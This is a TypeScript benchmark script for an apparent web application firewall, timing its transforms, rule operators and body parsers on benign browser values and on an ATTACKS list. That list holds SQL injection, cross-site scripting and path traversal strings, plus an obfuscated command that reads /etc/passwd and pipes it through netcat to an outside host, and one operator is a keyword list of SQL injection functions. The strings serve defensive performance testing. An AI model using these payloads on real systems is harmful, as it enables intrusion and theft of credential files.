// What the parts of an inspection cost, each alone: transformations, operators, body parsers. Nanoseconds
// a call; the values are those of ordinary browser traffic, then those of attacks.
//
//   npm run bench -- parts [--json] [--only WORD]
import { readFlags } from './support/read-flags.ts';
import { makeBodyParser, type BodyKind } from '../src/inspect/body/index.ts';
import { compileOperator, makeReport } from '../src/inspect/operators/index.ts';
import { TRANSFORMS } from '../src/inspect/transforms/index.ts';
import { loadRules } from '../src/seclang/index.ts';
import { DEFAULT_BODY_OPTIONS } from '../test/support/body-options.ts';
import { readPieces } from '../test/support/read-pieces.ts';

const flags = readFlags({
  json: { type: 'boolean', default: false },
  only: { type: 'string', default: '' },
});

/** How long each part is measured, and how often before, so that it is compiled. */
const MEASURE_MS = 100;
const WARM_UP_CALLS = 2000;

const BENIGN: readonly string[] = [
  'shoes and more',
  '/products/list/some-item',
  'shop.example.com',
  'en-US,en;q=0.9,de;q=0.8',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
];

const ATTACKS: readonly string[] = [
  "1' UNION/**/SELECT password FROM users-- ",
  '<script>alert(document.cookie)</script>',
  '%3Cscript%3Ealert%281%29%3C%2Fscript%3E',
  '../../../../etc/passwd',
  "cat /e\\tc/pa'ss'wd | nc 10.0.0.1 4444",
  '\\u003cimg src=x onerror=alert(1)\\x3e &lt;b&gt; \xc3\xa9',
];

const OPERATORS: readonly string[] = [
  '@contains ../',
  '@within GET HEAD POST OPTIONS',
  '@streq POST',
  '@ge 5',
  '@pm sleep( benchmark( xp_cmdshell load_file( into outfile',
  '@rx (?i)union\\s+select',
  '@validateByteRange 9,10,13,32-126,128-255',
  '@validateUrlEncoding',
  '@validateUtf8Encoding',
  '@ipMatch 10.0.0.0/8,192.168.0.0/16,2001:db8::/32',
  '@detectSQLi',
  '@detectXSS',
];

interface Row {
  readonly part: string;
  readonly benignNanoseconds: number;
  readonly attackNanoseconds: number | undefined;
}

/** Keeps results in use, so that no call is optimised away. */
let sink = 0;

function measure(call: (round: number) => number): number {
  for (let round = 0; round < WARM_UP_CALLS; round++) sink += call(round);
  const start = performance.now();
  let calls = 0;
  let spentMs = 0;
  while (spentMs < MEASURE_MS) {
    for (let round = 0; round < 100; round++) sink += call(round);
    calls += 100;
    spentMs = performance.now() - start;
  }
  return Math.round((spentMs * 1e6) / calls);
}

function measureOver(
  part: string,
  benign: readonly string[],
  attacks: readonly string[],
  call: (value: string) => number,
): Row {
  const over = (values: readonly string[]): number =>
    measure((round) => call(values[round % values.length]!));
  return { part, benignNanoseconds: over(benign), attackNanoseconds: over(attacks) };
}

function measureTransforms(): Row[] {
  return Object.entries(TRANSFORMS)
    .filter(([name]) => isWanted(`t:${name}`))
    .map(([name, transform]) =>
      measureOver(`t:${name}`, BENIGN, ATTACKS, (value) => transform(value).length),
    );
}

function isWanted(part: string): boolean {
  return part.includes(flags.only);
}

function measureOperators(): Row[] {
  return OPERATORS.filter(isWanted).map((text) => {
    const rule = `SecRule ARGS "${text}" "id:1,phase:2,pass"`;
    const [statement] = loadRules({ entries: ['b.conf'], files: { 'b.conf': rule } }).phases[2];
    if (statement?.kind !== 'rule') throw new Error(`no rule: ${text}`);
    const node = statement.links[0].operator;
    const { argument } = node;
    const template = argument.form === 'text' || argument.form === 'number';
    const operator = compileOperator(node, template ? argument.template.text : '', {});
    const report = makeReport();
    return measureOver(text.slice(0, 40), BENIGN, ATTACKS, (value) =>
      operator.test(value, report) ? 1 : 0,
    );
  });
}

const MULTIPART_TYPE = 'multipart/form-data; boundary=XBOUNDARYX';

function upload(bytes: number): string {
  const line = `${'x'.repeat(62)}\r\n`;
  const head =
    '--XBOUNDARYX\r\nContent-Disposition: form-data; name="f"; filename="f.txt"\r\nContent-Type: text/plain\r\n\r\n';
  return `${head}${line.repeat(bytes / line.length)}\r\n--XBOUNDARYX--\r\n`;
}

const BODIES: readonly (readonly [part: string, kind: BodyKind, body: string])[] = [
  [
    'form of 20 fields',
    'urlencoded',
    Array.from({ length: 20 }, (_, index) => `field${index}=some+value+${index}`).join('&'),
  ],
  [
    'form of 950 arguments',
    'urlencoded',
    Array.from({ length: 950 }, (_, index) => `argument${index}=value%20${index}`).join('&'),
  ],
  [
    'JSON of 2 KB',
    'json',
    JSON.stringify(
      Array.from({ length: 20 }, (_, index) => ({
        sku: `SKU-${index}`,
        quantity: index,
        price: index * 1.25,
        text: 'A fine product with a longer description',
      })),
    ),
  ],
  [
    'XML of 2 KB',
    'xml',
    `<order>${Array.from({ length: 30 }, (_, index) => `<item id="${index}"><name>Product ${index}</name><price>${index}</price></item>`).join('')}</order>`,
  ],
  ['multipart upload of 200 KB', 'multipart', upload(204_800)],
];

function measureBodies(): Row[] {
  return BODIES.filter(([part]) => isWanted(part)).map(([part, kind, text]) => {
    const body = Buffer.from(text, 'latin1');
    const options = { ...DEFAULT_BODY_OPTIONS, contentType: MULTIPART_TYPE };
    const benignNanoseconds = measure(() => {
      const parser = makeBodyParser(kind, options);
      for (let at = 0; at < body.length; at += 65_536)
        parser.append(body.subarray(at, at + 65_536));
      return readPieces(parser.finish()).arguments.names.length;
    });
    return { part, benignNanoseconds, attackNanoseconds: undefined };
  });
}

const rows = [...measureTransforms(), ...measureOperators(), ...measureBodies()];

if (flags.json) {
  console.log(JSON.stringify({ rows, sink }));
} else {
  console.log(`${'part'.padEnd(42)}${'benign'.padStart(12)}${'attack'.padStart(12)}  ns`);
  for (const { part, benignNanoseconds, attackNanoseconds } of rows) {
    const attack = attackNanoseconds === undefined ? '' : String(attackNanoseconds);
    console.log(
      `${part.padEnd(42)}${String(benignNanoseconds).padStart(12)}${attack.padStart(12)}`,
    );
  }
}
